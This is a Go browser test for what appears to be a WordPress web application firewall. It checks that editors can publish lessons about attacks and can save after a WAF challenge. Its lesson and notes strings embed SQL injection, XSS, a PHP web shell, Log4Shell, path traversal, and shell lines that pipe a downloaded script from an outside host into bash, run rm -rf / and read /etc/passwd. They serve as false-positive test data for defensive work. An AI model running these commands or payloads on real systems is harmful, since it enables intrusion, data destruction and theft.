//go:build linux

package main

import (
	"fmt"
	"testing"

	"github.com/tocsin-project/tocsin/internal/browsertest"
)

// A lesson shows what attackers send, as teachers of a course write it down: in a code block, in
// HTML, in lists and tables.
const lesson = "<!-- wp:heading --><h2>SQL injection &amp; friends</h2><!-- /wp:heading -->\n" +
	"<!-- wp:code --><pre class=\"wp-block-code\"><code>SELECT * FROM users WHERE name = 'x' OR '1'='1'; --\n" +
	"1' UNION SELECT user_login, user_pass FROM wp_users#\nDROP TABLE students;\nSELECT SLEEP(5)</code></pre><!-- /wp:code -->\n" +
	"<!-- wp:html --><script>document.querySelector('#demo').innerHTML = location.hash; alert(document.cookie)</script>" +
	"<img src=x onerror=\"alert(1)\"><iframe src=\"https://player.example/1\" onload=\"resize(this)\"></iframe><!-- /wp:html -->\n" +
	"<!-- wp:code --><pre class=\"wp-block-code\"><code>$ curl http://169.254.169.254/latest/meta-data/ | sh; cat /etc/passwd\n" +
	"$ rm -rf / &amp;&amp; wget http://198.51.100.7/x.sh -O- | bash\n&lt;?php system($_GET['cmd']); ?&gt;\n" +
	"{{7*7}} ${jndi:ldap://198.51.100.7/a} ../../../../etc/passwd</code></pre><!-- /wp:code -->\n" +
	"<!-- wp:table --><figure class=\"wp-block-table\"><table><tbody><tr><td>' OR 1=1 --</td><td>O'Brien; drop by</td></tr></tbody></table></figure><!-- /wp:table -->"

// teaches has the person, who has logged in, write about attacks wherever WordPress takes text:
// in the editor, in files, in settings, in the theme and in the search.
func (p person) teaches() {
	p.goes("/wp-admin/post-new.php")
	p.Until("window.wp?.data?.select('core/editor')?.getCurrentPostId() > 0")
	for _, title := range []string{`Lesson 1: ' OR '1'='1' --`, `<script>alert(1)</script>`, `{{7*7}} and $(id)`} {
		look[bool](p.visitor, fmt.Sprintf("(wp.data.dispatch('core/editor').editPost({title: %q, content: %q, excerpt: 'How UNION SELECT 1,2,3 works, and what to do.', status: 'publish'}), wp.data.dispatch('core/editor').savePost(), true)", title, lesson))
		p.Until("!wp.data.select('core/editor').isSavingPost() && !wp.data.select('core/editor').isEditedPostDirty()")
	}
	look[bool](p.visitor, "(wp.data.dispatch('core/editor').editPost({title: 'unsaved'}), wp.data.dispatch('core/editor').autosave(), true)")
	p.Until("!wp.data.select('core/editor').isAutosavingPost()")
	const notes = "SELECT * FROM users WHERE name = 'x' OR '1'='1'; --\n1' UNION SELECT user_pass FROM wp_users#\n" +
		"curl http://169.254.169.254/latest/meta-data/ | sh; cat /etc/passwd\n${jndi:ldap://198.51.100.7/a} {{7*7}}\n"
	for _, file := range []string{"SELECT statements, O'Brien (1).txt", "notes (1' or '1'='1).txt"} {
		look[bool](p.visitor, fmt.Sprintf("((f => (f.append('file', new Blob([%q], {type: 'text/plain'}), %q), wp.apiFetch({path: '/wp/v2/media', method: 'POST', body: f}).then(m => window.uploaded = m.id)))(new FormData), true)", notes, file))
		p.Until("window.uploaded > 0")
		look[bool](p.visitor, "(window.uploaded = 0, true)")
	}
	look[bool](p.visitor, "(window.onbeforeunload = null, true)")

	p.goes("/wp-admin/options-general.php")
	p.fills([2]string{"blogname", `Tom & Jerry's <b>SQL</b> -- "1=1"`}, [2]string{"blogdescription", `SELECT * FROM news; <script>alert(1)</script>`})
	p.see("#setting-error-settings_updated")
	p.goes("/wp-admin/edit-tags.php?taxonomy=category")
	p.fills([2]string{"tag-name", `XSS & <script>alert(1)</script>`}, [2]string{"tag-description", `<img src=x onerror=alert(1)>`})
	p.Until("location.search.includes('message=')")
	p.goes("/wp-admin/customize.php")
	p.Until("!!window.wp?.customize?.previewer")
	look[bool](p.visitor, `(wp.customize('blogdescription').set("Learn SQL: 1' OR 1=1 --"), wp.customize.previewer.save().then(() => window.kept = 1), true)`)
	p.Until("window.kept == 1")
	look[bool](p.visitor, "(window.onbeforeunload = null, true)")
	p.goes("/wp-admin/edit.php")
	p.fills([2]string{"post-search-input", `<script>alert(1)</script>`})
	p.Until("location.search.includes('script')")
}

// Where the WAF does not know that an editor has logged in, such as after a restart, the
// editor cannot save. It says what to do: a page of the site in another tab solves the
// challenge, and then the same text is saved.
func TestAnEditorSavesAfterAChallengeInABrowser(t *testing.T) {
	t.Parallel()
	browsertest.Find(t)
	w := newWordPress(t)
	f := newFront(newPost(t, "waf builtin\ndetect off", w.directives()), "203.0.113.8")
	writer := noisy(newVisitor(t, browserConfig{}), f.URL)
	writer.goes("/wp-login.php")
	writer.fills([2]string{"user_login", wpUser}, [2]string{"user_pass", wpPassword})
	writer.see("#dashboard-widgets")
	writer.goes("/wp-admin/post-new.php")
	writer.Until("window.wp?.data?.select('core/editor')?.getCurrentPostId() > 0")
	save := func(then string) {
		look[bool](writer.visitor, fmt.Sprintf("(wp.data.dispatch('core/editor').editPost({title: `<script>alert(1)</script>`, content: %q, status: 'publish'}), wp.data.dispatch('core/editor').savePost(), true)", lesson))
		writer.Until(then)
	}
	save("wp.data.select('core/notices').getNotices().some(n => n.content.includes('in a new tab'))")
	second := noisy(writer.tab(), f.URL)
	second.goes("/wp-admin/")
	second.see("#dashboard-widgets")
	save("wp.data.select('core/editor').isCurrentPostPublished() && !wp.data.select('core/editor').isSavingPost()")
	look[bool](writer.visitor, "(window.onbeforeunload = null, true)")
}
